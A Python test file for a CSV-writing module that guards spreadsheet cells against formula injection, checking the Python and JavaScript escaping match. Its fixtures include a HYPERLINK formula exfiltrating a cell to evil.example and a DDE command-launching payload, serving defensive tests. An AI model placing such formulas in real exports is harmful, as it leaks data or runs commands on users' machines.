"""CSV sheets people open (memprobe/spec/sheets.py): no cell is read as a formula."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess

import pytest

from memprobe.spec import sheets
from tests.helpers.workflow import ROOT

CASES = [
    (
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    ),
    ("+1+2", "'+1+2"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("-0.25", "-0.25"),  # a number written as text stays a number
    ("+3", "+3"),
    ("1e-5", "1e-5"),
    ("a reason = fine", "a reason = fine"),
    ("", ""),
]


@pytest.mark.parametrize("text,written", CASES)
def test_a_text_cell_never_starts_a_formula_and_reads_back_unchanged(text, written):
    assert sheets.safe_cell(text) == written
    assert sheets.read_cell(written) == text
    assert sheets.safe_cell(-0.25) == -0.25 and sheets.safe_cell(None) is None


def test_calibration_replies_and_tables_are_written_guarded():
    import pandas as pd

    from memprobe.protocol import calibration

    reason = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    reply = {f: "x" for f in calibration.REPLY_COLUMNS} | {"reason": reason}
    text = sheets.csv_text([reply], calibration.REPLY_COLUMNS)
    assert text == calibration._csv([reply], calibration.REPLY_COLUMNS)
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["reason"] == "'" + reason
    table = sheets.frame_csv(pd.DataFrame({"system": ["=cmd|' /C calc'!A0"], "B": [-0.5]}))
    assert table == "system,B\n'=cmd|' /C calc'!A0,-0.5\n"


@pytest.mark.skipif(not shutil.which("node"), reason="needs node to run the page's script")
def test_the_audit_pages_sheet_guards_its_cells_as_the_python_side_does():
    js = (ROOT / "memprobe/report/inspect_assets/audit.js").read_text()
    func = re.search(r"function csvCell\(v\) \{.*?\n\}", js, re.S)
    assert func, "csvCell not found in audit.js"
    texts = [text for text, _ in CASES]
    script = f"{func.group(0)}\nconsole.log(JSON.stringify({json.dumps(texts)}.map(csvCell)));"
    out = subprocess.run(["node", "-e", script], capture_output=True, text=True, check=True)
    cells = [(next(csv.reader([cell])) or [""])[0] for cell in json.loads(out.stdout)]
    assert cells == [written for _, written in CASES]
